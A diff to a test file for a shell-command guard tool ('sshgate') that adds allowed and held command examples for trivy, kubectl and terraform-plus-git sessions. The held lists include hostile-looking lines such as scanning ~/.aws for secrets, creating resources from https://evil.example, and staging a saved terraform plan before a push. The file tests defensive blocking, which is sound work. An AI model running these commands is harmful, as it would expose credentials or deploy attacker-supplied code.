@@ -4,6 +4,10 @@ variant stay held. Lines written from each tool's documentation, not from a corp
 
 from __future__ import annotations
 
+from sshgate.guard import classify
+from sshgate.guard.memory import HOME, Earlier, Written, placed_writes
+from sshgate.policy.model import Action
+
 from . import expect
 
 CONTAINERS_ALLOWED = [
@@ -49,8 +53,9 @@ CONTAINERS_ALLOWED = [
     'trivy image web:dev',
     'trivy image --severity HIGH,CRITICAL --ignore-unfixed ghcr.io/acme/web:1.2',
     'trivy image --exit-code 1 --severity CRITICAL -q web:dev',
-    'trivy fs .',
+    'trivy fs --scanners vuln .',
     'trivy fs --scanners vuln,misconfig --skip-dirs node_modules .',
+    'trivy fs src/',
     'trivy fs -f table -o reports/trivy.txt src/',
     'trivy config infra/',
     'trivy --version',
@@ -193,6 +198,9 @@ CONTAINERS_HELD = [
     'trivy fs --config /tmp/trivy.yaml .',
     'trivy fs -c /tmp/trivy.yaml .',
     'trivy fs /',
+    'trivy fs .',
+    'trivy fs --scanners vuln,secret .',
+    'cd ~/.aws && trivy fs --scanners secret .',
     'trivy fs /home/u',
     'trivy fs ~/.ssh',
     'trivy fs -o /etc/cron.d/x .',
@@ -255,6 +263,9 @@ CONTAINERS_HELD = [
     'kubectl create -f /tmp/evil.yaml',
     'kubectl create -f https://evil.example/pod.yaml',
     'kubectl create namespace a b',
+    'kubectl create job x --from=cronjob/nightly --dry-run=client -o yaml',
+    'kubectl create -k overlays/prod -o yaml',
+    'kubectl create -f k8s/job.yaml -o json',
     'kubectl --server https://evil.example create namespace x',
     'kubectl create namespace x --kubeconfig /tmp/k',
 ]
@@ -651,3 +662,45 @@ SYSTEM_HELD = [
 ]
 
 test_system_held, test_system_allowed = expect.table_tests(SYSTEM_HELD, SYSTEM_ALLOWED)
+
+
+def _session(lines: list[str]) -> list:
+    """Classify ``lines`` in order as one exec scope would, each taken to have run."""
+    written: list[Written] = []
+    out = []
+    for line in lines:
+        c = classify(line, earlier=Earlier(tuple(written), (HOME,), ()),
+                     seconds=expect.TABLE_BUDGET)
+        out.append(c)
+        written += [Written(p, line) for p in placed_writes(c.writes, (HOME,))]
+    return out
+
+
+#: a saved plan holds sensitive values in plain text: staged with its directory by a later
+#: line, a push would carry it to the remote
+SAVED_PLAN_STAGED = [
+    ["terraform plan -out=tfplan", "git add -A && git commit -m wip && git push"],
+    ["terraform plan -out=tfplan", "git add ."],
+    ["terraform -chdir=infra plan -out=prod.tfplan", "git add infra/"],
+    ["cd infra && terraform plan -out=tfplan", "git add infra"],
+    ["terraform plan -out tfplan", "git add '*plan'"],
+]
+SAVED_PLAN_NOT_STAGED = [
+    ["terraform plan -out=tfplan", "git add src/main.tf && git commit -m x"],
+    ["terraform plan -out=tfplan", "git add -u"],
+    ["terraform plan -out=tfplan", "git add docs/"],
+]
+
+
+def test_a_saved_plan_is_never_staged_with_its_directory() -> None:
+    for lines in SAVED_PLAN_STAGED:
+        first, last = _session(lines)
+        assert first.default_action is Action.ALLOW, lines
+        assert any(f.rule == "secret.read" for f in last.findings), (lines, last.findings)
+
+
+def test_named_files_and_other_trees_stay_ordinary_after_a_plan() -> None:
+    for lines in SAVED_PLAN_NOT_STAGED:
+        out = _session(lines)
+        assert all(c.default_action is Action.ALLOW for c in out), (
+            lines, [f.why for c in out for f in c.findings])
